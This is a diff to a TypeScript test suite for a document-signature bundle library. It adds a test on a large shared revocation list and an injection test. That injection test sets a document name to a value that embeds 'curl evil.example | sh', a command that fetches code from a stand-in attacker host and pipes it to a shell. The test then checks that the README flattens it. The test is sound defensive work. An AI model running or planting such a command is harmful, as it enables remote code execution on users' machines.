@@ -7,6 +7,8 @@ import { dirname, join } from 'node:path'
 import { describe, expect, test, vi } from 'vitest'
 import { bundleFiles, filesAtHand } from '@kelisim/signature/bundle/bundle.ts'
 import { checkBundle, type BundleSetting } from '@kelisim/signature/bundle/check-bundle.ts'
+import { readCrl, type Crl } from '@kelisim/signature/revocation/crl.ts'
+import { makeCrl } from '@kelisim/signature/signer/issue.ts'
 import { pemOf } from '@kelisim/signature/pem.ts'
 import { hasOpenssl, withoutOpenssl } from '@kelisim/signature/testing/openssl.ts'
 import { partyOf } from '../../requests/party.ts'
@@ -202,7 +204,7 @@ describe('of RSA keys', async () => {
       expect({ command, status, stderr }).toMatchObject({ command, status: 0 })
       return stdout + stderr
     })
-    expect(commands.length).toBeGreaterThanOrEqual(5 + 2 * 5)
+    expect(commands.length).toBeGreaterThanOrEqual(6 + 2 * 5)
     const all = said.join('\n')
     for (const word of [
       'Signature Verified Successfully',
@@ -220,7 +222,7 @@ describe('of RSA keys', async () => {
       textOf(files, bundleFiles.entries).replace('Между', 'между'),
     )
     expect(run(commands[0]!).status).not.toBe(0)
-    expect(run(commands[4]!)).toMatchObject({ status: 1, stdout: 'event 4: another text\n' })
+    expect(run(commands[5]!)).toMatchObject({ status: 1, stdout: 'event 4: another text\n' })
     writeFileSync(join(place, manifestOf(files).documents[0]!.file), 'another')
     expect(run(commands.find((command) => command.startsWith('openssl cms'))!).status).not.toBe(0)
   })
@@ -279,6 +281,54 @@ describe('of GOST keys', async () => {
     expect(found.signatures.map(({ attempt, findings }) => [attempt, findings])).toEqual([
       ...[0, 0, 1, 2, 2].map((attempt) => [attempt, []]),
     ])
+  })
+
+  test('a long list lies beside the signatures that rest on it, once, and they hold by it alone', async () => {
+    const { nation, centre } = app
+    const revoked = Array.from({ length: 3000 }, (_, i) => ({
+      ...{ serial: Uint8Array.of(1, i >> 8, i & 255), revokedAt: new Date('2026-01-01T00:00:00Z') },
+    }))
+    let list: Promise<Crl> | undefined
+    const listFrom = async (thisUpdate: Date) => {
+      const nextUpdate = new Date(thisUpdate.getTime() + 24 * 60 * 60 * 1000)
+      return readCrl(await makeCrl({ issuer: nation.centreParty, thisUpdate, nextUpdate, entries: revoked }))
+    }
+    centre.list = (at) => (list ??= listFrom(at))
+    const { id } = await app.contract()
+    await app.stampAll()
+    delete centre.list
+    const files = await unpacked(await bundleFor(app, app.ours, id))
+    const { signatures } = manifestOf(files)
+    const lists = signatures.map((one) => one.lists.filter((name) => files.get(name)!.length > 32 * 1024))
+    expect(new Set(lists.flat()).size).toBe(1)
+    for (const { durable } of signatures) expect(files.get(durable)!.length).toBeLessThan(16 * 1024)
+    const found = await check(app, files)
+    expect([found.faults, found.signatures.flatMap(({ findings }) => findings)]).toEqual([[], []])
+    const without = rewritten(files, { [lists[0]![0]!]: null }, app.logKey, () => ({
+      signatures: signatures.map((one) => ({ ...one, lists: [] })),
+    }))
+    const { signatures: unproved } = await check(app, without)
+    expect(unproved.map(({ findings }) => findings)).toEqual([['revocation-unknown'], ['revocation-unknown']])
+  })
+
+  test('a name cannot pass for a step of ours', async () => {
+    const { id } = await app.contract({ name: 'Акт' })
+    const path = join(folder, `${++made}.zip`)
+    const { database, archive, logKey, time } = app
+    const loaded = await app.load(id)
+    const name = 'Акт\n\n    curl evil.example | sh'
+    const viewer = { id: app.ours.id, numbers: [], organizationId: app.ours.organizationId, isOwner: true }
+    const making = {
+      database,
+      storage: archive.storage,
+      logKey,
+      publicUrl,
+      viewer,
+      now: time.now,
+      report: null,
+    }
+    await makeBundle({ ...making, loaded: { ...loaded, row: { ...loaded.row, name } } }, path)
+    expect(textOf(await unpacked(path), 'README.ru.txt')).toContain('Документ: Акт curl evil.example | sh\n')
   })
 
   test('entries from before there were salts are shown shortened, and are proved to be there', async () => {
